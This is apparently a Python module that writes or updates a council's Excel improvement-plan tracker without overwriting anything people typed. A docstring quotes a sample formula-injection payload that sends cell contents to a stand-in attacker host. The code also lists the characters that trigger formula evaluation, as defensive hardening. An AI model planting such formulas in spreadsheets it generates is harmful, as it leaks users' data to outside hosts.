"""Write or update the improvement-plan tracker workbook.

The tracker is the council's own working file, so updating it is additive: rows are appended for
areas that have none, blank reference cells are filled, and nothing a person typed is changed —
not their cells, not the columns they added, not their formatting. A dated backup of the previous
file is kept beside it, because openpyxl cannot carry drawings or charts a person may have added.
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from selfeval.errors import InputError, Location, OutputError
from selfeval.models.actions import HEADER_SEARCH_ROWS, TRACKER_COLUMNS, TRACKER_SHEET, find_header
from selfeval.xmltext import strip_forbidden
from selfeval.write.output import atomic_write, word_lock_files

MAX_ROWS_VALIDATED = 2000


@dataclass
class TrackerRow:
    area_id: str
    area_text: str
    source: str
    framework: str


@dataclass
class TrackerResult:
    path: Path
    created: bool
    added: list[str] = field(default_factory=list)
    backup: Path | None = None
    written: bool = True  # False when there was nothing to add and the file was left alone


def export_tracker(rows: list[TrackerRow], path: Path) -> TrackerResult:
    import openpyxl

    if path.exists():
        from selfeval.safety.xlsx_safety import check_ooxml

        check_ooxml(path)
        try:
            wb = openpyxl.load_workbook(path)
        except Exception as e:
            raise InputError(f"the tracker cannot be opened ({type(e).__name__}: {e})", Location(path)) from None
        if TRACKER_SHEET not in wb.sheetnames:
            raise InputError(f"the tracker has no '{TRACKER_SHEET}' sheet; rename the sheet or move the file away", Location(path))
        ws = wb[TRACKER_SHEET]
        created = False
    else:
        wb = openpyxl.Workbook()
        ws = wb[wb.sheetnames[0]]  # a new workbook's one sheet
        ws.title = TRACKER_SHEET
        _new_layout(wb, ws)
        created = True
    if ws.max_row <= 1 and ws.max_column <= 1 and ws.cell(row=1, column=1).value is None:
        _new_layout(wb, ws)  # an empty Actions sheet: lay it out rather than refuse it
    header_row, columns = _header(ws, path)
    changed = _merge_rows(ws, header_row, columns, rows)
    result = TrackerResult(path, created, changed.added)
    if not created and not changed.cells:
        result.written = False  # nothing to add: leave the person's file (and its timestamp) alone
        return result
    if word_lock_files(path):
        raise OutputError("the tracker is open in Excel (its ~$ lock file is present); close it and run again. Nothing was written.", Location(path))
    buffer = io.BytesIO()
    wb.save(buffer)
    data = buffer.getvalue()
    if not created:
        from selfeval.write.formula_cache import restore_cached_results

        data = restore_cached_results(path.read_bytes(), data)  # the person's formulas keep their results
    try:
        if not created:
            result.backup = _backup_name(path)
            shutil.copy2(path, result.backup)
        atomic_write(path, data)
    except OSError as e:
        raise OutputError(f"could not write the tracker ({e.strerror}); the previous version is intact", Location(path)) from None
    return result


# Text that a spreadsheet would take for a formula (OWASP's CSV-injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def write_text(cell: Any, text: str) -> None:
    """Store ``text`` in ``cell`` as text, never as a formula.

    openpyxl turns any string starting with '=' into a live formula; an imported report's
    '=HYPERLINK("http://evil.example/?"&B3,"x")' would run when the tracker is opened. The cell is
    typed as a string, and text that Excel would evaluate once edited gets the quote prefix (the
    "'" a person types), so Excel shows it literally and reading it back gives the same string."""
    cell.value = text
    cell.data_type = "s"
    if text.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def _backup_name(path: Path) -> Path:
    stamp = dt.datetime.now().strftime("%Y%m%d-%H%M%S")
    candidate = path.with_name(f"{path.stem}.backup-{stamp}{path.suffix}")
    n = 2
    while candidate.exists():
        candidate = path.with_name(f"{path.stem}.backup-{stamp}-{n}{path.suffix}")
        n += 1
    return candidate


def _header(ws: Any, path: Path) -> tuple[int, dict[str, int]]:
    rows = [[c.value for c in row] for row in ws.iter_rows(max_row=HEADER_SEARCH_ROWS)]
    r, columns = find_header(rows, ws.title, path)
    # Columns of ours that a person deleted come back at the end, never in the middle of theirs.
    next_col = max(len(rows[r - 1]), max(columns.values())) + 1
    for name, heading, _, _ in TRACKER_COLUMNS:
        if name not in columns:
            ws.cell(row=r, column=next_col, value=heading)
            columns[name] = next_col
            next_col += 1
    return r, columns


@dataclass
class _Changes:
    added: list[str] = field(default_factory=list)
    cells: int = 0


def _merge_rows(ws: Any, header_row: int, columns: dict[str, int], rows: list[TrackerRow]) -> _Changes:
    present: dict[str, list[int]] = {}
    for r in range(header_row + 1, ws.max_row + 1):
        value = ws.cell(row=r, column=columns["area_id"]).value
        if value is not None and str(value).strip():
            present.setdefault(str(value).strip(), []).append(r)
    changes = _Changes()
    last = max([header_row] + [r for rs in present.values() for r in rs])
    for row in rows:
        if row.area_id in present:
            for r in present[row.area_id]:
                changes.cells += _fill_blank(ws, r, columns, row)
            continue
        last += 1
        write_text(ws.cell(row=last, column=columns["area_id"]), row.area_id)
        changes.cells += 1 + _fill_blank(ws, last, columns, row)
        ws.cell(row=last, column=columns["due"]).number_format = "dd/mm/yyyy"
        changes.added.append(row.area_id)
    return changes


def _fill_blank(ws: Any, r: int, columns: dict[str, int], row: TrackerRow) -> int:
    """Fill the reference cells a person left blank; return how many were filled."""
    from openpyxl.styles import Alignment

    filled = 0
    for name, value in (("area_text", row.area_text), ("source", row.source), ("framework", row.framework)):
        cell = ws.cell(row=r, column=columns[name])
        if cell.value is None or (isinstance(cell.value, str) and not cell.value.strip()):
            # Excel cells cannot hold the control characters that PDF text sometimes carries.
            write_text(cell, strip_forbidden(value)[0])
            cell.alignment = Alignment(wrap_text=True, vertical="top")
            filled += 1
    return filled


def _new_layout(wb: Any, ws: Any) -> None:
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter
    from openpyxl.worksheet.datavalidation import DataValidation

    header_fill = PatternFill("solid", fgColor="1F3A5F")
    for col, (name, heading, width, _) in enumerate(TRACKER_COLUMNS, start=1):
        cell = ws.cell(row=1, column=col, value=heading)
        cell.font = Font(bold=True, color="FFFFFF")
        cell.fill = header_fill
        cell.alignment = Alignment(wrap_text=True, vertical="top")
        ws.column_dimensions[get_column_letter(col)].width = width
    ws.freeze_panes = "B2"
    letters = {name: get_column_letter(col) for col, (name, *_rest) in enumerate(TRACKER_COLUMNS, start=1)}
    last = MAX_ROWS_VALIDATED
    rag = DataValidation(type="list", formula1='"Blue,Green,Amber,Red"', allow_blank=True, showErrorMessage=True,
                         errorTitle="RAG status", error="Choose Blue (complete), Green, Amber or Red.")
    rag.add(f"{letters['rag']}2:{letters['rag']}{last}")
    internal = DataValidation(type="list", formula1='"Yes,No"', allow_blank=True)
    internal.add(f"{letters['internal']}2:{letters['internal']}{last}")
    due = DataValidation(type="date", operator="greaterThan", formula1="36526", allow_blank=True, showErrorMessage=True,
                         errorTitle="Due date", error="Type a date, for example 31/03/2027.")
    due.add(f"{letters['due']}2:{letters['due']}{last}")
    for dv in (rag, internal, due):
        ws.add_data_validation(dv)
    for r in range(2, 200):
        ws[f"{letters['due']}{r}"].number_format = "dd/mm/yyyy"
    guide = wb.create_sheet("How to use")
    guide.column_dimensions["A"].width = 24
    guide.column_dimensions["B"].width = 100
    guide["A1"] = "Improvement plan tracker"
    guide["A1"].font = Font(bold=True, size=14)
    guide["A3"] = "How it works"
    guide["B3"] = (
        "One row per action. Add as many rows per area as you need (copy the Area ID). selfeval generate reads this file "
        "from the inputs folder and puts your actions, leads, dates, progress and RAG into the improvement plan and board summary. "
        "Running 'selfeval plan export' again adds rows for new areas and never changes what you typed. You can add your own columns."
    )
    guide["B3"].alignment = Alignment(wrap_text=True, vertical="top")
    for i, (_, heading, _, what) in enumerate(TRACKER_COLUMNS, start=5):
        guide.cell(row=i, column=1, value=heading).font = Font(bold=True)
        guide.cell(row=i, column=2, value=what)
